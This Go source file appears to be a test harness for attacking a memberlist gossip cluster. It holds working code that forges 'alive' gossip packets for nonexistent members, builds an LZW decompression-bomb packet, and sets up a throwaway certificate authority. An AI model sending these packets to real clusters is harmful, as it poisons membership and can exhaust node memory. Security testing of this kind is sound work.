package main

import (
	"bytes"
	"compress/lzw"
	"crypto/ecdsa"
	"crypto/elliptic"
	"crypto/rand"
	"crypto/tls"
	"crypto/x509"
	"crypto/x509/pkix"
	"encoding/binary"
	"encoding/hex"
	"encoding/pem"
	"math/big"
	"net"
	"os"
	"path/filepath"
	"time"
)

// The first bytes of memberlist's messages.
const (
	gossipAlive    = 4
	gossipCompress = 9
	gossipLabel    = 244
)

// labelled is a gossip message as the members of a group send it, in the clear.
func labelled(group string, kind byte, body []byte) []byte {
	packet := append([]byte{gossipLabel, byte(len(group))}, group...)
	return append(append(packet, kind), body...)
}

// forgedMember is a member that does not exist.
type forgedMember struct {
	name        string
	incarnation [16]byte
	address     net.IP // of its gossip
	port        uint16
	peer        string // the address at which it claims to take events
}

// packet returns a gossip packet that announces the member as alive.
func (m forgedMember) packet(group string) []byte {
	meta := append(append([]byte{1}, m.incarnation[:]...), m.peer...)
	var body []byte
	body = append(body, 0x86) // a map of six
	body = packText(body, "Incarnation")
	body = append(body, 1)
	body = packText(body, "Node")
	body = packText(body, m.name+"/"+hex.EncodeToString(m.incarnation[:8]))
	body = packText(body, "Addr")
	body = packText(body, string(m.address.To4()))
	body = packText(body, "Port")
	body = binary.BigEndian.AppendUint16(append(body, 0xcd), m.port)
	body = packText(body, "Meta")
	body = packText(body, string(meta))
	body = packText(body, "Vsn")
	body = packText(body, "\x01\x05\x02\x00\x00\x00")
	return labelled(group, gossipAlive, body)
}

// packText appends text, or bytes, in MessagePack.
func packText(to []byte, text string) []byte {
	if len(text) < 32 {
		return append(append(to, 0xa0|byte(len(text))), text...)
	}
	return append(binary.BigEndian.AppendUint16(append(to, 0xda), uint16(len(text))), text...)
}

// forged returns the ith of many members.
func forged(i int, peer string) forgedMember {
	m := forgedMember{name: "forged", address: net.IPv4(127, 9, byte(i>>8), byte(i)), port: 9, peer: peer}
	binary.BigEndian.PutUint64(m.incarnation[:], uint64(i)+1)
	m.name += "-" + hex.EncodeToString(m.incarnation[4:8])
	return m
}

// bomb is a gossip packet that expands to a number of zeros.
func bomb(group string, expanded int) ([]byte, error) {
	var small bytes.Buffer
	w := lzw.NewWriter(&small, lzw.LSB, 8)
	if _, err := w.Write(make([]byte, expanded)); err != nil {
		return nil, err
	}
	if err := w.Close(); err != nil {
		return nil, err
	}
	var body []byte
	body = append(body, 0x82) // a map of two
	body = packText(body, "Algo")
	body = append(body, 0)
	body = packText(body, "Buf")
	body = packText(body, small.String())
	return labelled(group, gossipCompress, body), nil
}

// authority signs certificates.
type authority struct {
	dir         string
	file        string
	certificate *x509.Certificate
	key         *ecdsa.PrivateKey
	issued      int64
}

func newAuthority(dir string) (*authority, error) {
	key, err := ecdsa.GenerateKey(elliptic.P256(), rand.Reader)
	if err != nil {
		return nil, err
	}
	a := &authority{dir: dir, file: filepath.Join(dir, "ca.pem"), key: key}
	template := &x509.Certificate{
		SerialNumber: big.NewInt(1), Subject: pkix.Name{CommonName: "attack"}, IsCA: true, BasicConstraintsValid: true,
		NotBefore: time.Now().Add(-time.Hour), NotAfter: time.Now().Add(24 * time.Hour), KeyUsage: x509.KeyUsageCertSign,
	}
	raw, err := x509.CreateCertificate(rand.Reader, template, template, &key.PublicKey, key)
	if err != nil {
		return nil, err
	}
	if a.certificate, err = x509.ParseCertificate(raw); err != nil {
		return nil, err
	}
	return a, writePEM(a.file, "CERTIFICATE", raw)
}

// issue writes a certificate for a name, good for both ends of a connection, and its key.
func (a *authority) issue(file, name string) (certFile, keyFile string, err error) {
	key, err := ecdsa.GenerateKey(elliptic.P256(), rand.Reader)
	if err != nil {
		return "", "", err
	}
	a.issued++
	template := &x509.Certificate{
		SerialNumber: big.NewInt(1 + a.issued), Subject: pkix.Name{CommonName: file}, DNSNames: []string{name},
		NotBefore: time.Now().Add(-time.Hour), NotAfter: time.Now().Add(24 * time.Hour), KeyUsage: x509.KeyUsageDigitalSignature,
		ExtKeyUsage: []x509.ExtKeyUsage{x509.ExtKeyUsageServerAuth, x509.ExtKeyUsageClientAuth},
	}
	raw, err := x509.CreateCertificate(rand.Reader, template, a.certificate, &key.PublicKey, a.key)
	if err != nil {
		return "", "", err
	}
	encoded, err := x509.MarshalPKCS8PrivateKey(key)
	if err != nil {
		return "", "", err
	}
	certFile, keyFile = filepath.Join(a.dir, file+".pem"), filepath.Join(a.dir, file+"-key.pem")
	if err := writePEM(certFile, "CERTIFICATE", raw); err != nil {
		return "", "", err
	}
	return certFile, keyFile, writePEM(keyFile, "PRIVATE KEY", encoded)
}

// caller is the TLS configuration of a client that has such a certificate.
func (a *authority) caller(certFile, keyFile, server string) (*tls.Config, error) {
	own, err := tls.LoadX509KeyPair(certFile, keyFile)
	if err != nil {
		return nil, err
	}
	config := &tls.Config{MinVersion: tls.VersionTLS12, ServerName: server, RootCAs: x509.NewCertPool(), Certificates: []tls.Certificate{own}}
	config.RootCAs.AddCert(a.certificate)
	return config, nil
}

func writePEM(path, kind string, content []byte) error {
	return os.WriteFile(path, pem.EncodeToMemory(&pem.Block{Type: kind, Bytes: content}), 0o600)
}
